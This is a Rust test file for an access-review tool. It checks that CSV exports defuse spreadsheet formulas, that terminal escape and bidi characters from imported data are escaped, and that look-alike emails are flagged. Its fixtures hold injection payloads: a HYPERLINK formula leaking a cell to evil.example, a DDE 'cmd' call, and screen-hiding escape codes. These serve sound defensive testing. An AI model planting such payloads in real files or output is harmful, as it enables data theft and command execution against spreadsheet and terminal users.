//! What HR rows and vendor exports typed by anyone can do to the files and
//! the terminal keyward writes for people: no spreadsheet formula in a
//! CSV keyward writes (review sheets, `inventory --format csv`), and what
//! a review sheet says comes back from `review import` unchanged.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is the failure report

use std::path::Path;

use assert_cmd::Command;
use keyward_testkit::org::{HR_CSV_HEADER, directory, people_source_yaml};

/// E1's family name and E2's department are formulas; E3 is a plain person.
const HR: &str = "E1,=HYPERLINK(\"http://evil.example/?\"&A1),太郎,taro@example.com,開発本部,,正社員,在籍,2015/04/01,,\n\
E2,鈴木,花子,hanako@example.com,+営業本部,,正社員,在籍,2015/04/01,,\n\
E3,佐藤,次郎,jiro@example.com,開発本部,,正社員,在籍,2015/04/01,,\n";

/// Cells that start a formula in a spreadsheet: `=`, `+`, `-`, `@` (a tab
/// or carriage return at the start of a cell is trimmed when it is read).
const SLACK: &str = "username,email,status,groups\n\
@taro,taro@example.com,Member,-1+1\n\
hanako,hanako@example.com,Member,+49 30\n\
=cmd|' /C calc'!A0,,Member,x\n\
'=already,jiro@example.com,Member,plain\n";

const APP: &str = "apiVersion: keyward.io/v1alpha1
kind: Application
metadata: {name: slack}
spec:
  owner: it@example.com
  connector:
    csvExport:
      path: ../data/slack.csv
      columns: {username: username, email: email, status: status, groups: groups}
      statusValues: {active: [Member]}
  correlate: [{email: {}}]
---
apiVersion: keyward.io/v1alpha1
kind: AccessPolicy
metadata: {name: nobody}
spec:
  select: {department: [人事部]}
  grant: [{app: slack}]
";

fn org() -> tempfile::TempDir {
    directory(&[
        ("data/hr.csv", &format!("{HR_CSV_HEADER}{HR}")),
        ("data/slack.csv", SLACK),
        ("policies/people.yaml", &people_source_yaml("../data/hr.csv")),
        ("policies/slack.yaml", APP),
    ])
}

/// Adds rows at the end of one of the organisation's files.
fn append(dir: &Path, rel: &str, text: &str) {
    let p = dir.join(rel);
    let all = std::fs::read_to_string(&p).unwrap() + text;
    std::fs::write(p, all).unwrap();
}

fn keyward(dir: &Path, args: &[&str]) -> String {
    let out = Command::cargo_bin("keyward").unwrap().current_dir(dir).env("NO_COLOR", "1").args(args).output().unwrap();
    assert!(out.status.success(), "keyward {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// Every cell of a CSV text.
fn cells(text: &str) -> Vec<String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    r.records().flat_map(|rec| rec.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// No cell starts a formula; returns the cells that were defused.
fn assert_no_formula(what: &str, text: &str) -> Vec<String> {
    let all = cells(text);
    for c in &all {
        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{what}: cell {c:?} starts a formula in:\n{text}");
    }
    all.into_iter().filter(|c| c.starts_with('\'')).collect()
}

#[test]
fn inventory_csv_cells_cannot_start_a_formula() {
    let dir = org();
    let text = keyward(dir.path(), &["inventory", "-f", "policies", "--at", "2026-11-23", "--format", "csv"]);
    let defused = assert_no_formula("inventory", &text);
    for want in ["'@taro", "'-1+1", "'+49 30", "'=cmd|' /C calc'!A0", "''=already"] {
        assert!(defused.iter().any(|c| c == want), "{want:?} not in {defused:?}");
    }
    assert!(defused.iter().any(|c| c.starts_with("'=HYPERLINK")), "{defused:?}");
}

#[test]
fn review_sheets_cannot_start_a_formula_and_read_back_unchanged() {
    let dir = org();
    let out = dir.path().join("review");
    keyward(
        dir.path(),
        &["review", "export", "-f", "policies", "--at", "2026-11-23", "--by", "app", "--out-dir", "review"],
    );
    let sheet = out.join("it@example.com.csv");
    let text = std::fs::read_to_string(&sheet).unwrap();
    let defused = assert_no_formula("review sheet", &text);
    assert!(defused.iter().any(|c| c == "'+営業本部"), "{defused:?}");
    // The reviewer keeps E1's and E2's accounts, with a comment that is a
    // formula too (as a spreadsheet saves a cell typed with a leading `'`).
    let body = text.strip_prefix('\u{feff}').unwrap();
    let mut r = csv::Reader::from_reader(body.as_bytes());
    let header = r.headers().unwrap().clone();
    let mut w = csv::Writer::from_writer(b"\xef\xbb\xbf".to_vec());
    w.write_record(&header).unwrap();
    for rec in r.records() {
        let mut row: Vec<String> = rec.unwrap().iter().map(str::to_owned).collect();
        if row[8] == "E1" || row[8] == "E2" {
            row[15] = "keep".into();
            row[16] = "'=needed for the Q4 close".into();
        }
        w.write_record(&row).unwrap();
    }
    std::fs::write(&sheet, w.into_inner().unwrap()).unwrap();
    let report = keyward(
        dir.path(),
        &["review", "import", "review/it@example.com.csv", "--until", "2099-03-31", "--out", "exceptions.yaml"],
    );
    assert!(report.contains("Wrote 2 Exception(s)"), "{report}");
    let yaml = std::fs::read_to_string(dir.path().join("exceptions.yaml")).unwrap();
    assert_eq!(yaml.matches("reason: =needed for the Q4 close\n").count(), 2, "{yaml}");
    assert!(yaml.contains("    - -1+1\n") && yaml.contains("    - +49 30\n"), "groups as the app wrote them: {yaml}");
    // The Exceptions grant what the app has: the plan flags nothing as ungranted any more.
    let before = keyward(dir.path(), &["plan", "-f", "policies", "--at", "2026-11-23"]);
    assert!(before.contains("E1") && before.contains("E2"), "{before}");
    let after = keyward(dir.path(), &["plan", "-f", "policies", "-f", "exceptions.yaml", "--at", "2026-11-23"]);
    assert!(!after.contains("E1") && !after.contains("E2"), "{after}");
}

/// E4's names and account carry terminal escapes: a window title, a bidi
/// override, a carriage return and a cursor move that would hide a line.
const HR_CONTROLS: &str = "E4,\"中村\x1b]0;pwned\x07\",\"四郎\u{202e}gnp.exe\r\x1b[1A\",shiro@example.com,開発本部,,正社員,在籍,2015/04/01,,\n";
const SLACK_CONTROLS: &str = "\"shiro\x1b[8m\rhidden\",shiro@example.com,Member,x\n\"\x1b[2Jwipe\",,Member,\n";

fn org_with_controls() -> tempfile::TempDir {
    let dir = org();
    append(dir.path(), "data/hr.csv", HR_CONTROLS);
    append(dir.path(), "data/slack.csv", SLACK_CONTROLS);
    dir
}

/// No control character but line feeds (and, with `colours`, keyward's own
/// SGR colour sequences), and no bidi override, reaches the terminal.
fn assert_printable(what: &str, s: &str, colours: bool) {
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\n' {
            continue;
        }
        if colours && c == '\x1b' {
            let seq: String = chars.by_ref().take_while(|&c| c != 'm').collect();
            assert!(
                seq.starts_with('[') && seq[1..].chars().all(|c| c.is_ascii_digit() || c == ';'),
                "{what}: an escape sequence other than a colour: {seq:?} in:\n{s}"
            );
            continue;
        }
        assert!(
            !c.is_control() && !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'),
            "{what}: raw {c:?} in:\n{s}"
        );
    }
}

fn output(dir: &Path, args: &[&str]) -> (Option<i32>, String, String) {
    let out = Command::cargo_bin("keyward").unwrap().current_dir(dir).env("NO_COLOR", "1").args(args).output().unwrap();
    (out.status.code(), String::from_utf8(out.stdout).unwrap(), String::from_utf8(out.stderr).unwrap())
}

#[test]
fn control_characters_from_data_are_escaped_in_text_for_people() {
    let dir = org_with_controls();
    let at = ["--at", "2026-11-23"];
    for (args, colours) in [
        (vec!["plan", "-f", "policies"], false),
        (vec!["plan", "-f", "policies", "--color", "always"], true),
        (vec!["explain", "E4", "-f", "policies"], false),
        (vec!["inventory", "-f", "policies"], false),
    ] {
        let args: Vec<&str> = args.into_iter().chain(at).collect();
        let (code, out, err) = output(dir.path(), &args);
        assert_eq!(code, Some(0), "{args:?}: {err}");
        assert_printable(&format!("{args:?} stdout"), &out, colours);
        assert_printable(&format!("{args:?} stderr"), &err, false);
        assert!(out.contains("\\u{1b}[2Jwipe") || args[0] == "explain", "{args:?}: {out}");
        assert!(out.contains("\\u{202e}gnp.exe\\u{d}\\u{1b}[1A"), "{args:?}: escaped, not dropped: {out}");
    }
}

#[test]
fn control_characters_from_data_are_escaped_in_errors() {
    let dir = org_with_controls();
    let hr = dir.path().join("data/hr.csv");
    let text = std::fs::read_to_string(&hr)
        .unwrap()
        .replace("shiro@example.com,開発本部,,正社員,", "shiro@example.com,開発本部,,\"正社員\x1b[2J\r\",");
    std::fs::write(&hr, text).unwrap();
    let (code, out, err) = output(dir.path(), &["validate", "-f", "policies"]);
    assert_eq!(code, Some(1), "{out}{err}");
    assert_printable("validate stderr", &err, false);
    assert!(err.contains("unknown employment type `正社員\\u{1b}[2J`"), "{err}");
}

#[test]
fn a_look_alike_address_is_reviewed_with_the_person_it_resembles_never_matched() {
    let dir = org();
    append(dir.path(), "data/hr.csv", "E5,石川,蓮,ren.ishikawa@example.com,開発本部,,正社員,在籍,2015/04/01,,\n");
    // U+212A KELVIN SIGN: Unicode case folding turns it into `k`.
    append(dir.path(), "data/slack.csv", "ren,ren.ishi\u{212a}awa@example.com,Member,\n");
    let plan = keyward(dir.path(), &["plan", "-f", "policies", "--at", "2026-11-23", "--format", "json"]);
    let plan: serde_json::Value = serde_json::from_str(&plan).unwrap();
    let changes = plan["changes"].as_array().unwrap();
    let about: Vec<&serde_json::Value> =
        changes.iter().filter(|c| c["account"]["email"] == "ren.ishi\u{212a}awa@example.com").collect();
    assert_eq!(about.len(), 1, "{about:?}");
    assert_eq!(about[0]["action"], "review");
    assert!(about[0]["person"].is_null(), "never attributed: {}", about[0]);
    let reason = about[0]["reason"].as_str().unwrap();
    assert!(reason.contains("non-ASCII characters before the `@` (U+212A)") && reason.contains("E5"), "{reason}");
    assert!(!changes.iter().any(|c| c["person"]["id"] == "E5"), "E5 has no account: nothing is planned for them");
}
